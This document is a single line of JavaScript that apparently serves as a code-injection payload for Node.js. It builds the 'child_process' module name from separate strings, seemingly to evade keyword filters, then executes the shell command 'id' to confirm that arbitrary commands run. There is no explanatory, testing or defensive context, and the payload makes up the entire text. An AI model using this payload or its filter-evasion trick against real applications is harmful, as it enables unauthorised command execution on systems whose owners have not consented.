require(["child", "process"].join("_")).exec("id");
